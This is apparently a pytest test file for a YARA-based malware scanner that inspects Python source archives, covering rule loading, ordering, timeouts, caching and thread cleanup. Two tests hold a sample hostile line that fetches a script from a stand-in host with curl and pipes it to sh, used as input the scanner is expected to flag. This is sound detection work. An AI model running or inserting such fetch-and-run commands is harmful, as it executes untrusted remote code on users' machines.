from __future__ import annotations

import gc
import re
import sys
import threading
from importlib import resources
from pathlib import Path

import pytest

from tests.analysis.builders import sdist
from threatfeed.analysis import Engine
from threatfeed.analysis import signatures as signatures_module
from threatfeed.analysis.rules import RULES
from threatfeed.analysis.signatures import SignatureError, Signatures


def test_every_bundled_signature_feeds_a_registered_rule() -> None:
    names = {rule.__name__ for rule in RULES}
    folder = resources.files("threatfeed.analysis") / "yara"
    for entry in folder.iterdir():
        if entry.name.endswith(".yar"):
            for indicator in re.findall(r'indicator = "(\w*)"', entry.read_text()):
                assert indicator == "" or indicator in names, (entry.name, indicator)


def test_user_rules_report_under_yara_signature_rule(tmp_path: Path) -> None:
    (tmp_path / "house.yar").write_text(
        'rule house_marker { strings: $a = "HOUSE-MARKER-7" condition: $a }\n'
    )
    engine = Engine(extra_yara_dir=tmp_path)
    analysis = engine.analyze(sdist({"t/x.py": "X = 'HOUSE-MARKER-7'\n"}))
    assert analysis.indicators["yara_signature_rule"] == [
        {"file": "tidy-strings-0.4.0/t/x.py", "line": 1, "signatures": ["house_marker"]}
    ]


def test_user_rules_scan_prose_too(tmp_path: Path) -> None:
    """Prose gets fewer bundled rules, never fewer of the user's: they know what they seek."""
    (tmp_path / "house.yar").write_text(
        'rule house_marker { strings: $a = "HOUSE-MARKER-7" condition: $a }\n'
    )
    engine = Engine(extra_yara_dir=tmp_path)
    analysis = engine.analyze(sdist({"docs/notes.md": "# Notes\n\nHOUSE-MARKER-7\n"}))
    assert analysis.indicators["yara_signature_rule"][0]["file"] == (
        "tidy-strings-0.4.0/docs/notes.md"
    )


def test_hits_come_in_namespace_and_name_order_not_the_scanners(tmp_path: Path) -> None:
    (tmp_path / "b.yar").write_text(
        'rule zeta { strings: $a = "MARK-Z" condition: $a }\n'
        'rule alpha { strings: $a = "MARK-A" condition: $a }\n'
    )
    (tmp_path / "a.yar").write_text('rule omega { strings: $a = "MARK-O" condition: $a }\n')
    signatures = Signatures(extra_dir=tmp_path)
    signatures.scan(b"MARK-Z")

    hits = signatures.scan(b"MARK-Z MARK-A MARK-O")

    assert [hit.rule for hit in hits][-3:] == ["omega", "alpha", "zeta"]


def test_labels_holding_escapes_read_as_text(tmp_path: Path) -> None:
    """yara-x returns a metadata string with an escape as bytes; evidence shows plain text."""
    (tmp_path / "esc.yar").write_text(
        'rule esc_marker { meta: label = "spelled as \\\\x escapes" '
        'strings: $a = "ESC-MARKER-3" condition: $a }\n'
    )
    engine = Engine(extra_yara_dir=tmp_path)
    analysis = engine.analyze(sdist({"t/x.py": "X = 'ESC-MARKER-3'\n"}))
    assert analysis.indicators["yara_signature_rule"][0]["signatures"] == ["spelled as \\x escapes"]


def test_user_rule_that_does_not_compile_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "broken.yar").write_text("rule broken { condition: $missing }\n")
    with pytest.raises(SignatureError, match=r"broken\.yar"):
        Engine(extra_yara_dir=tmp_path)


def test_every_rule_is_documented() -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "rules.md").read_text()
    for rule in RULES:
        assert f"### `{rule.__name__}`" in docs, rule.__name__


def test_a_file_that_exhausts_the_scanner_is_reported_not_passed_as_clean(
    tmp_path: Path,
) -> None:
    # every byte against every byte: quadratic, so 200 KB keeps yara-x busy for minutes
    (tmp_path / "slow.yar").write_text(
        "rule quadratic { condition: for all i in (0..filesize - 1) : "
        "(for all j in (0..filesize - 1) : (uint8(j) != 0xFF)) }\n"
    )
    engine = Engine(extra_yara_dir=tmp_path, scan_timeout_seconds=1)
    archive = sdist({"t/big.py": "X = 1\n" * 40_000, "t/small.py": "Y = 2\n"})
    analysis = engine.analyze(archive)
    assert analysis.errors == ("tidy-strings-0.4.0/t/big.py: signature scan stopped after 1 s",)
    assert "yara_signature_rule" in analysis.indicators  # the small file was still scanned
    # a scan given up on is not remembered as a result: the same file fails again
    assert engine.analyze(archive).errors == analysis.errors


def test_results_are_remembered_by_content_within_a_byte_budget(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(signatures_module, "REMEMBERED_BYTES", 64 * 1024)
    signatures = Signatures()
    payload = b"import os\nos.system('curl -s https://x.example/p.sh | sh')\n"
    first = signatures.scan(payload)
    assert first
    assert signatures.scan(bytes(bytearray(payload))) == first
    for n in range(200):
        signatures.scan(b"# filler %d\n" % n + b"x = 1\n" * 200)
    assert signatures._remembered._seen_bytes <= 64 * 1024
    assert all(data != payload for data, _ in signatures._remembered._seen.values())  # oldest first
    assert signatures.scan(payload) == first


def test_a_file_sharing_another_files_length_and_ends_is_scanned_for_itself() -> None:
    signatures = Signatures()
    ends = b"#" * 100 + b"\n"
    payload = b"os.system('curl -s https://x.example/p|sh')\n"
    hostile = ends + payload + ends
    clean = ends + b"x = 1".ljust(len(payload) - 1) + b"\n" + ends
    assert len(clean) == len(hostile)
    assert signatures.scan(clean) == ()
    assert signatures.scan(hostile)
    assert signatures.scan(clean) == ()


def test_an_engine_dropped_on_its_own_thread_is_freed_there() -> None:
    """Nothing of an engine points back at it, so the thread that drops it frees its
    scanners (yara-x refuses on any other thread, as the cyclic collector's may be)."""
    unraisable: list[BaseException | None] = []
    hook, sys.unraisablehook = sys.unraisablehook, lambda u: unraisable.append(u.exc_value)
    try:

        def analyse_and_drop() -> None:
            Engine().analyze(b"not an archive")

        thread = threading.Thread(target=analyse_and_drop)
        thread.start()
        thread.join()
        gc.collect()
    finally:
        sys.unraisablehook = hook
    assert unraisable == []
